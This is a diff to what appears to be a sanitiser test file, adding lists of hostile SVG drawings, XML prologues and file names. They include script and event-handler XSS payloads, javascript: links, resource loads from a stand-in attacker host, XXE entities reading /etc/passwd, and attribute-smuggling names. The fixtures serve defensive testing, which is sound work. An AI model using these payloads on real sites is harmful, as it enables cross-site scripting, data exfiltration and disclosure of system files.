@@ -154,6 +154,82 @@ _MARKDOWN = [
     f"https://{EVIL}/ [x](http://{EVIL}:80/)",
 ]
 
+_XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
+_XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
+DRAWINGS = (
+    f"<script>{_JS}</script>",
+    f"<script href='data:,{_JS}'/>",
+    f"<script {_XLINK} xlink:href='https://{EVIL}/a.js'/>",
+    f"<script {_XHTML}>{_JS}</script>",
+    f"<x:script xmlns:x='http://www.w3.org/2000/svg'>{_JS}</x:script>",
+    f"<g onload='{_JS}'/>",
+    f"<path d='M0 0h9v9' onclick='{_JS}'/>",
+    f"<text y='9' onmouseover='{_JS}'>x</text>",
+    f"<title onfocus='{_JS}' tabindex='0'>x</title>",
+    f"<desc onactivate='{_JS}'>x</desc>",
+    f"<animate onbegin='{_JS}' attributeName='x' dur='1s'/>",
+    f"<a href='x'><set attributeName='href' to='javascript:{_JS}'/><text y='9'>x</text></a>",
+    f"<a href='javascript:{_JS}'><text y='9'>x</text></a>",
+    f"<a {_XLINK} xlink:href='javascript:{_JS}'><text y='9'>x</text></a>",
+    f"<a href='https://{EVIL}/'><text y='9'>x</text></a>",
+    f"<image href='x' onerror='{_JS}'/>",
+    f"<image href='https://{EVIL}/a.png' width='9' height='9'/>",
+    f"<image {_XLINK} xlink:href='https://{EVIL}/a.png' width='9' height='9'/>",
+    f"<use href='https://{EVIL}/a.svg#x'/>",
+    f"<use href='data:image/svg+xml,&lt;svg id=&quot;x&quot; onload=&quot;{_JS}&quot;/>#x'/>",
+    f"<feImage {_XLINK} xlink:href='https://{EVIL}/a.png'/>",
+    f"<foreignObject width='9' height='9'><img {_XHTML} src='x' onerror='{_JS}'/></foreignObject>",
+    f"<foreignObject width='9' height='9'><iframe {_XHTML} src='https://{EVIL}/'/></foreignObject>",
+    f"<g><body {_XHTML} onload='{_JS}'/></g>",
+    f"<style>@import 'https://{EVIL}/a.css';</style>",
+    f"<style>* {{ fill: url(https://{EVIL}/a.svg#x) }}</style>",
+    f"<rect width='9' height='9' style='fill: url(https://{EVIL}/a.svg#x)'/>",
+    f"<rect width='9' height='9' style='fill: u\\72l(https://{EVIL}/a.svg#x)'/>",
+    f"<rect width='9' height='9' fill='url(//{EVIL}/a.svg#x)'/>",
+    f"<rect width='9' height='9' filter='url(https://{EVIL}/a.svg#x)'/>",
+    f"<rect width='9' height='9' style='cursor: url(https://{EVIL}/a.cur), auto'/>",
+    f"<rect width='9' height='9' mask='url(https://{EVIL}/a.svg#x)'/>",
+    f"<font-face {_XLINK}><font-face-src><font-face-uri xlink:href='https://{EVIL}/a.svg'/></font-face-src></font-face>",
+    f"<?xml-stylesheet href='https://{EVIL}/a.css'?>",
+    f"<link {_XHTML} rel='stylesheet' href='https://{EVIL}/a.css'/>",
+    f"<meta {_XHTML} http-equiv='refresh' content='0;url=https://{EVIL}/'/>",
+    f"<discard onbegin='{_JS}'/>",
+    f"<handler xmlns='http://www.w3.org/2001/xml-events' type='text/ecmascript'>{_JS}</handler>",
+    f"]]><script>{_JS}</script>",
+    f"<![CDATA[x]]><script>{_JS}</script>",
+)
+"""What somebody could put into a drawing, between ``<svg …>`` and ``</svg>``."""
+
+PROLOGUES = (
+    f"<!DOCTYPE svg [<!ENTITY x '<script xmlns=&quot;http://www.w3.org/2000/svg&quot;>{_JS}</script>'>]>",
+    f"<!DOCTYPE svg SYSTEM 'https://{EVIL}/a.dtd'>",
+    f"<!DOCTYPE svg [<!ENTITY % x SYSTEM 'https://{EVIL}/a.dtd'> %x;]>",
+    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
+    "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'hit()'>]>",
+    f"<?xml-stylesheet type='text/xsl' href='https://{EVIL}/a.xsl'?>",
+    f"<?xml-stylesheet type='text/css' href='https://{EVIL}/a.css'?>",
+)
+"""What somebody could put before it."""
+
+NAMES = (
+    'a" onerror="hit()" x="',
+    "a' onerror='hit()' x='",
+    "a onerror=hit() b",
+    "<script>hit()</script>".replace("/", "%2F"),
+    "<img src=x onerror=hit()>",
+    "javascript:hit()",
+    "data:,hit()",
+    "a&quot; onerror=hit()",
+    "a#b?c=d&e",
+    "a%22 onerror=hit() %22",
+    "a\\b",
+    "\u202egpj.a",
+    "xn--a",
+    "-->",
+    "${hit()}{{ hit() }}",
+)
+"""What somebody could call a file."""
+
 ATTACKS = (*_HANDLERS, *_ELEMENTS, *_MARKDOWN)
 
 # For titles, descriptions and names of authors, which also stand in JSON-LD, in Open Graph, in the feed and in a table.
